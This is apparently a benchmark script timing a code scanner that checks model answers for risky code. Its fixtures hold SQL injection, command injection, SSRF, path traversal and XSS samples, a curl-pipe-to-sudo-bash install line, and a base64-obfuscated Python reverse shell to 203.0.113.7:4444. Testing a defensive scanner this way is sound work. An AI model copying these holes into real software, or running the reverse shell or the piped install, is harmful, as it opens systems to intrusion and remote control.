"""How fast the code scanner is where speed matters: in-process on typical answers, and in the gateway's path.

(a) In-process: the time to scan typical ~2 KB model answers (Markdown with a fenced block in Python, JavaScript,
    shell; a risky and obfuscated one; prose with no code) with every rule family on, p50/p99/max over many runs.
    Target: p99 <= 5 ms for a 2 KB answer.
(b) Gateway: Parity with the guard off, then on (action block, the strictest) against the shared fake upstream
    (its answers are prose), at concurrency 1, non-streaming and streaming: the p50 latency the guard adds.
    Target: within 1 ms of the guard off for non-code answers.
Run with Parity's venv: `.venv/bin/python bench/scan_speed.py` (the gateway part needs the bench venv of
bench/gateway.py for the fake upstream and load client). Only 127.0.0.1 is contacted.
"""

from __future__ import annotations

import argparse
import base64
import json
import platform
import statistics
import sys
import tempfile
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import yaml
from rich.console import Console
from rich.table import Table

sys.path.insert(0, str(Path(__file__).resolve().parent))
from gateway import HOST, MODEL, BenchError, child_env, probe, service, start_upstream
from parity.scan import Scanner

PY = '''import sqlite3
import requests
from flask import Flask, request, jsonify

app = Flask(__name__)
DB = "users.db"


def find_user(name):
    conn = sqlite3.connect(DB)
    cur = conn.cursor()
    cur.execute("SELECT id, name, email FROM users WHERE name = '%s'" % name)
    return cur.fetchall()


@app.route("/users")
def users():
    name = request.args.get("name", "")
    rows = find_user(name)
    return jsonify([{"id": r[0], "name": r[1], "email": r[2]} for r in rows])


def paginate(rows, page, size=20):
    """Return one page of rows and the total number of pages."""
    start = (page - 1) * size
    pages = (len(rows) + size - 1) // size
    return rows[start:start + size], pages


@app.route("/users/search")
def search():
    term = request.args.get("q", "").strip()
    page = int(request.args.get("page", 1))
    conn = sqlite3.connect(DB)
    rows = conn.execute("SELECT id, name FROM users WHERE name LIKE ?", (f"%{term}%",)).fetchall()
    items, pages = paginate(rows, page)
    return jsonify({"items": [dict(id=r[0], name=r[1]) for r in items], "pages": pages})


@app.route("/avatar")
def avatar():
    url = request.args.get("url")
    data = requests.get(url, timeout=5).content
    return data, 200, {"Content-Type": "image/png"}


if __name__ == "__main__":
    app.run(host="0.0.0.0", port=8000, debug=True)
'''
JS = '''const express = require("express");
const { exec } = require("child_process");
const path = require("path");
const app = express();

app.get("/ping", (req, res) => {
  const host = req.query.host;
  exec(`ping -c 1 ${host}`, (err, stdout) => {
    if (err) return res.status(500).send("failed");
    res.type("text/plain").send(stdout);
  });
});

app.get("/files/:name", (req, res) => {
  res.sendFile(path.join(__dirname, "uploads", req.params.name));
});

function paginate(items, page = 1, size = 20) {
  const start = (page - 1) * size;
  return { items: items.slice(start, start + size), pages: Math.ceil(items.length / size) };
}

app.get("/users", async (req, res) => {
  const page = parseInt(req.query.page || "1", 10);
  const users = await db.query("SELECT id, name FROM users WHERE active = $1", [true]);
  res.json(paginate(users.rows, page));
});

app.get("/hello", (req, res) => {
  res.send("<h1>Hello " + req.query.name + "</h1>");
});

app.listen(3000, () => console.log("listening on 3000"));
'''
SH = '''#!/usr/bin/env bash
set -euo pipefail
# Install the toolchain and the agent
sudo apt-get update && sudo apt-get install -y curl git build-essential
curl -fsSL http://203.0.113.7/install.sh | sudo bash
pip install --extra-index-url http://pypi.internal.example:8080/simple acme-utils
chmod 777 /var/run/app.sock
mkdir -p "$HOME/.config/agent"
cat > "$HOME/.config/agent/config.yaml" <<CFG
endpoint: https://agent.example.com
CFG
for svc in api worker scheduler; do
  sudo systemctl enable "$svc"
  sudo systemctl restart "$svc"
  if ! systemctl is-active --quiet "$svc"; then
    echo "service $svc failed to start" >&2
    exit 1
  fi
done
echo "done"
'''
_PAYLOAD = ('import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));'
            'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])')
OBF = f"""import base64, os
payload = "{base64.b64encode(_PAYLOAD.encode()).decode()}"
exec(base64.b64decode(payload))
"""


def answer(lang: str, code: str) -> str:
    intro = ("Here is a complete example that does what you asked. I kept it small so it is easy to follow, and "
             "added comments where the behaviour is not obvious.\n\n")
    outro = ("\n\nRun it, then open the URL in your browser. If you need authentication or pagination, tell me and "
             "I will extend it. Remember to adapt the paths and settings to your environment before deploying.\n")
    return f"{intro}```{lang}\n{code}```{outro}"


PROSE = ("A database index is a data structure that speeds up reads at the cost of extra writes and storage. "
         "When you query a column without an index, the engine scans every row; with a B-tree index it walks a "
         "balanced tree in logarithmic time. Choose indexes for the columns you filter, join and sort on, keep "
         "them narrow, and measure with EXPLAIN before and after. ") * 5


def samples() -> dict[str, str]:
    mixed = answer("python", PY) + "\nDeploy it with:\n\n```bash\n" + SH + "```\n"
    return {"python + shell answer": mixed, "python answer": answer("python", PY),
            "javascript answer": answer("javascript", JS),
            "shell answer": answer("bash", SH), "obfuscated answer": answer("python", OBF), "prose, no code": PROSE}


def in_process(runs: int) -> list[dict[str, Any]]:
    scanner = Scanner()
    out = []
    for name, text in samples().items():
        fenced_only = name.startswith("prose")  # what the gateway does: code is what is fenced
        for _ in range(20):
            scanner.scan_text(text, fenced_only=fenced_only)
        times = []
        for _ in range(runs):
            t0 = time.perf_counter_ns()
            found = scanner.scan_text(text, fenced_only=fenced_only)
            times.append((time.perf_counter_ns() - t0) / 1e6)
        times.sort()
        out.append({"answer": name, "bytes": len(text.encode()), "findings": len(found),
                    "p50_ms": statistics.median(times), "p99_ms": times[int(0.99 * (len(times) - 1))],
                    "max_ms": times[-1], "runs": runs})
    return out


def start_parity(args: argparse.Namespace, work: Path, guard: bool) -> Any:
    entry: dict[str, Any] = {"name": MODEL, "provider": "openai", "api_key": "sk-upstream",
                             "base_url": f"http://{HOST}:{args.upstream_port}/v1"}
    if guard:
        entry["guard"] = {"action": "block", "min_severity": "low", "min_confidence": "low"}
    name = "guard" if guard else "plain"
    config = work / f"parity-{name}.yaml"
    config.write_text(yaml.safe_dump({"store": str(work / f"{name}.db"), "models": [entry]}, sort_keys=False))
    cmd = [args.parity_bin, "serve", "--config", str(config), "--host", HOST, "--port", str(args.parity_port)]
    return service(f"parity ({name})", cmd, work / f"{name}.log", child_env(), args.parity_port, "--parity-port")


def gateway(args: argparse.Namespace, console: Console) -> dict[str, Any]:
    out: dict[str, Any] = {}
    with tempfile.TemporaryDirectory() as tmp, start_upstream(args, Path(tmp)):
        base = f"http://{HOST}:{args.parity_port}/v1"
        for rnd in range(args.rounds):  # alternate, so drift on a shared VM hits both sides alike
            for guard in (False, True):
                label = "guard on" if guard else "guard off"
                with start_parity(args, Path(tmp), guard):
                    for stream in (False, True):
                        console.print(f"round {rnd + 1}: {label}, {'stream' if stream else 'non-stream'}")
                        r = probe(args, base, "x", concurrency=1, seconds=args.seconds, stream=stream)
                        key = f"{label}|{'stream' if stream else 'non-stream'}"
                        out.setdefault(key, []).append(r)
    return out


def summarize_gateway(raw: dict[str, Any]) -> list[dict[str, Any]]:
    rows = []
    for mode in ("non-stream", "stream"):
        off = [r["p50_ms"] for r in raw[f"guard off|{mode}"]]
        on = [r["p50_ms"] for r in raw[f"guard on|{mode}"]]
        rows.append({"mode": mode, "p50_off_ms": statistics.median(off), "p50_on_ms": statistics.median(on),
                     "added_ms": statistics.median(on) - statistics.median(off),
                     "rounds": len(on)})
    return rows


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--runs", type=int, default=2000, help="in-process scans per answer")
    ap.add_argument("--seconds", type=float, default=8, help="measured seconds per gateway scenario")
    ap.add_argument("--rounds", type=int, default=3, help="guard off/on alternations")
    ap.add_argument("--no-gateway", action="store_true", help="only the in-process part")
    ap.add_argument("--json", type=Path, default=Path(__file__).resolve().parent / "results-scan-speed.json")
    ap.add_argument("--upstream-port", type=int, default=9100)
    ap.add_argument("--parity-port", type=int, default=4150)
    ap.add_argument("--chunks", type=int, default=16)
    ap.add_argument("--shared", type=Path, default=Path("/work/shared/bench"))
    ap.add_argument("--bench-python", default=str(Path(__file__).resolve().parent / ".venv-litellm" / "bin" / "python"))
    ap.add_argument("--parity-bin", default=str(Path(sys.executable).parent / "parity"))
    args = ap.parse_args(argv)
    console = Console(width=120)
    results: dict[str, Any] = {"date": datetime.now(UTC).isoformat(timespec="seconds"),
                               "machine": {"platform": platform.platform(), "python": platform.python_version(),
                                           "cpus": __import__("os").cpu_count()}}
    results["in_process"] = rows = in_process(args.runs)
    table = Table(title="scan time per answer, in-process (all rule families)")
    for col in ("answer", "bytes", "findings", "p50 ms", "p99 ms", "max ms"):
        table.add_column(col, justify="left" if col == "answer" else "right")
    for r in rows:
        table.add_row(r["answer"], str(r["bytes"]), str(r["findings"]), f"{r['p50_ms']:.2f}", f"{r['p99_ms']:.2f}",
                      f"{r['max_ms']:.2f}")
    console.print(table)
    if not args.no_gateway:
        try:
            results["gateway_raw"] = gateway(args, console)
        except BenchError as e:
            console.print(f"[red]gateway part failed:[/] {e}")
            return 1
        results["gateway"] = summary = summarize_gateway(results["gateway_raw"])
        table = Table(title="gateway p50 latency, concurrency 1, prose answers (fake upstream)")
        for col in ("mode", "guard off ms", "guard on ms", "added ms"):
            table.add_column(col, justify="right")
        for r in summary:
            table.add_row(r["mode"], f"{r['p50_off_ms']:.3f}", f"{r['p50_on_ms']:.3f}", f"{r['added_ms']:+.3f}")
        console.print(table)
    args.json.write_text(json.dumps(results, indent=2) + "\n")
    console.print(f"results written to {args.json}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
